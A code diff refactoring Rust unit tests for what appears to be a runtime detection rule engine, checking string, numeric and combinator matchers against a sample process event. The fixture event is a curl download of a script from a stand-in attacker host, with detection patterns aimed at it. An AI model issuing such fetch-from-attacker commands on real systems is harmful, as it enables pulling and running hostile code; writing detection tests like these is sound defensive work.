@@ -447,250 +447,116 @@ mod tests {
         }
     }
 
+    /// A leaf spec with one operator set by `set`.
+    fn op(set: impl FnOnce(&mut LeafSpec)) -> LeafSpec {
+        let mut spec = LeafSpec::default();
+        set(&mut spec);
+        spec
+    }
+
+    fn text(v: &str) -> Option<OneOrMany> {
+        Some(OneOrMany::One(v.into()))
+    }
+
+    fn str_(v: &str) -> Option<Scalar> {
+        Some(Scalar::Str(v.into()))
+    }
+
+    /// Each case: field, operator, whether it holds on `ev`.
+    fn check(ev: &RuntimeEvent, cases: Vec<(&str, LeafSpec, bool)>) {
+        for (i, (field, spec, expected)) in cases.into_iter().enumerate() {
+            let described = format!("case {i}: {field} {spec:?}");
+            assert_eq!(leaf(field, spec).matches(ev), expected, "{described}");
+        }
+    }
+
     #[test]
     fn string_operators() {
         let ev = exec(r#"["curl","-s","http://Evil.example/x.sh"]"#);
-        let s = |v: &str| Some(OneOrMany::One(v.into()));
-        assert!(
-            leaf(
-                "process.name",
-                LeafSpec {
-                    equals: Some(Scalar::Str("curl".into())),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.name",
-                LeafSpec {
-                    equals: Some(Scalar::Str("CURL".into())),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.name",
-                LeafSpec {
-                    equals: Some(Scalar::Str("CURL".into())),
-                    nocase: true,
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.executable",
-                LeafSpec {
-                    prefix: s("/usr/"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.executable",
-                LeafSpec {
-                    prefix: s("/tmp/"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.args",
-                LeafSpec {
-                    suffix: s(".sh"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.args",
-                LeafSpec {
-                    contains: s("evil.example"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.args",
-                LeafSpec {
-                    contains: s("evil.example"),
-                    nocase: true,
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.executable",
-                LeafSpec {
-                    glob: s("/usr/*/curl"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.executable",
-                LeafSpec {
-                    glob: s("/*/curl"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.executable",
-                LeafSpec {
-                    glob: s("/**/curl"),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.cmdline",
-                LeafSpec {
-                    regex: Some(r"-s\s+http".into()),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.cmdline",
-                LeafSpec {
-                    regex: Some(r"^-s".into()),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
+        check(
+            &ev,
+            vec![
+                ("process.name", op(|s| s.equals = str_("curl")), true),
+                ("process.name", op(|s| s.equals = str_("CURL")), false),
+                (
+                    "process.name",
+                    op(|s| (s.equals, s.nocase) = (str_("CURL"), true)),
+                    true,
+                ),
+                ("process.executable", op(|s| s.prefix = text("/usr/")), true),
+                (
+                    "process.executable",
+                    op(|s| s.prefix = text("/tmp/")),
+                    false,
+                ),
+                ("process.args", op(|s| s.suffix = text(".sh")), true),
+                (
+                    "process.args",
+                    op(|s| s.contains = text("evil.example")),
+                    false,
+                ),
+                (
+                    "process.args",
+                    op(|s| (s.contains, s.nocase) = (text("evil.example"), true)),
+                    true,
+                ),
+                (
+                    "process.executable",
+                    op(|s| s.glob = text("/usr/*/curl")),
+                    true,
+                ),
+                (
+                    "process.executable",
+                    op(|s| s.glob = text("/*/curl")),
+                    false,
+                ),
+                (
+                    "process.executable",
+                    op(|s| s.glob = text("/**/curl")),
+                    true,
+                ),
+                (
+                    "process.cmdline",
+                    op(|s| s.regex = Some(r"-s\s+http".into())),
+                    true,
+                ),
+                (
+                    "process.cmdline",
+                    op(|s| s.regex = Some(r"^-s".into())),
+                    false,
+                ),
+            ],
         );
     }
 
     #[test]
     fn numeric_boolean_and_existence_operators() {
         let ev = exec(r#"["curl"]"#);
-        assert!(
-            leaf(
-                "process.uid",
-                LeafSpec {
-                    gte: Some(1000.0),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.uid",
-                LeafSpec {
-                    lt: Some(1000.0),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.uid",
-                LeafSpec {
-                    in_: Some(vec![Scalar::Int(0), Scalar::Int(1000)]),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.uid",
-                LeafSpec {
-                    all_bits: Some(0o1000),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.uid",
-                LeafSpec {
-                    any_bits: Some(0o7),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "exec.setuid",
-                LeafSpec {
-                    equals: Some(Scalar::Bool(false)),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            leaf(
-                "process.sha256",
-                LeafSpec {
-                    exists: Some(false),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
-        );
-        assert!(
-            !leaf(
-                "process.name",
-                LeafSpec {
-                    exists: Some(false),
-                    ..Default::default()
-                }
-            )
-            .matches(&ev)
+        let ints = |v: &[i64]| Some(v.iter().map(|&i| Scalar::Int(i)).collect());
+        check(
+            &ev,
+            vec![
+                ("process.uid", op(|s| s.gte = Some(1000.0)), true),
+                ("process.uid", op(|s| s.lt = Some(1000.0)), false),
+                ("process.uid", op(|s| s.in_ = ints(&[0, 1000])), true),
+                ("process.uid", op(|s| s.all_bits = Some(0o1000)), true),
+                ("process.uid", op(|s| s.any_bits = Some(0o7)), false),
+                (
+                    "exec.setuid",
+                    op(|s| s.equals = Some(Scalar::Bool(false))),
+                    true,
+                ),
+                ("process.sha256", op(|s| s.exists = Some(false)), true),
+                ("process.name", op(|s| s.exists = Some(false)), false),
+            ],
         );
     }
 
     #[test]
     fn combinators() {
         let ev = exec(r#"["curl"]"#);
-        let yes = || {
-            leaf(
-                "process.name",
-                LeafSpec {
-                    equals: Some(Scalar::Str("curl".into())),
-                    ..Default::default()
-                },
-            )
-        };
-        let no = || {
-            leaf(
-                "process.name",
-                LeafSpec {
-                    equals: Some(Scalar::Str("wget".into())),
-                    ..Default::default()
-                },
-            )
-        };
+        let yes = || leaf("process.name", op(|s| s.equals = str_("curl")));
+        let no = || leaf("process.name", op(|s| s.equals = str_("wget")));
         assert!(Condition::All(vec![yes(), yes()]).matches(&ev));
         assert!(!Condition::All(vec![yes(), no()]).matches(&ev));
         assert!(Condition::Any(vec![no(), yes()]).matches(&ev));
